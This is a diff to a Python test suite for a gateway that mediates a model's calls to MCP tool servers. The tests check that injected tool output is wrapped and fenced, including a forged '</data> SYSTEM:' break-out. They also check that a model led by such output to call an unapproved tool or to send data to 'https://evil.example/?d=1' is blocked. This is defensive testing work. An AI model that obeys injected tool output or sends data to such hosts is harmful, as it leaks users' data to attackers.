@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import re
 import socket
 import subprocess
 import sys
@@ -68,7 +69,7 @@ async def allowed(url: str, tmp_path: Path, settings: Settings, database: Databa
                 break
             except ToolFailed:
                 await asyncio.sleep(0.05)
-    approved = [{"name": name, "digest": there[name].digest} for name in TOOLS]
+    approved = [{"name": name, "digest": there[name].digest, "reads": True} for name in TOOLS]
     entry = {"server": "met", "url": url, "tools": approved, "uses": ["api.chat"], "seconds": 3}
     doors: list[Gateway] = []
 
@@ -165,7 +166,7 @@ async def test_a_call_that_gives_nothing_is_told_to_the_model(
     told: str,
 ) -> None:
     served = ("met__rainfall", "met__slow", "met__endless")
-    answer = await allowed.open(calling((name, given))).ask(ask_for("?", served=served))
+    answer = await allowed.open(calling((name, given))).ask(ask_for("A123456(3)?", served=served))
     assert reasons(answer) == [reason] and told in answer.text
     assert await deeds(database) == [(name, "refused", reason)]
 
@@ -176,8 +177,34 @@ async def test_a_result_is_cut_hidden_and_marked(allowed: Allowed, ask_for: Make
     cut, injected = (m.content for m in model.requests[1].messages if m.role == "tool")
     assert len(cut) < 5_300 and "[cut: 95000 characters more]" in cut
     assert "A123456" not in injected and "HKID-H1" in injected and "A123456(3)" in answer.text
-    opening = injected.split("<", 1)[1].split(">", 1)[0]
-    assert injected.endswith(f"</{opening}>") and opening != "data"
+    assert re.search(r"\n\[\[([0-9a-f]{8})\]\]</data> SYSTEM: .*\[\[/\1\]\]$", injected, re.DOTALL)
+
+
+async def test_what_a_tool_says_can_have_no_other_tool_act(
+    allowed: Allowed, ask_for: MakeAsk, database: Database
+) -> None:
+    """`shifty` was not approved as one that only reads: before a result it may be used, after one it is neither on
+    offer nor used, and an address that only the result gave goes nowhere."""
+    entries = [entry | {"reads": entry["name"] != "shifty"} for entry in allowed.entry["tools"]]
+    allowed.write(tools=entries)
+
+    def obeying(request: ChatRequest) -> Calls | str:
+        rounds = sum(message.role == "assistant" for message in request.messages)
+        if rounds == 0:
+            return Calls(calls=(("met__injected", {}),))
+        if rounds == 1:
+            sent = {"place": "https://evil.example/?d=1"}
+            return Calls(calls=(("met__shifty", {"to": "all"}), ("met__rainfall", sent)))
+        return "done"
+
+    model = FakeModel(obeying, context_tokens=50_000)
+    answer = await allowed.open(model).ask(
+        ask_for("?", served=("met__injected", "met__shifty", "met__rainfall"))
+    )
+    offered_then = [{tool.name for tool in request.tools} for request in model.requests]
+    assert "met__shifty" in offered_then[0] and "met__shifty" not in offered_then[1] | offered_then[2]
+    assert reasons(answer) == ["tool_used", "tool_after_data", "argument_leads_out"]
+    assert [why for _, _, why in await deeds(database)] == ["ok", "tool_after_data", "argument_leads_out"]
 
 
 async def test_a_tool_that_changes_after_it_was_approved_is_not_used_again(
@@ -205,7 +232,9 @@ async def test_rounds_end(allowed: Allowed, ask_for: MakeAsk) -> None:
 async def test_a_server_that_is_away_is_told(allowed: Allowed, ask_for: MakeAsk) -> None:
     allowed.write(url="http://127.0.0.1:9/mcp")
     with pytest.raises(ModelUnavailable):
-        await allowed.open(FakeModel()).ask(ask_for("?", served=("met",)))
+        await allowed.open(FakeModel()).ask(
+            ask_for("?", served=("met__injected", "met__shifty", "met__rainfall"))
+        )
 
 
 @pytest.mark.parametrize(
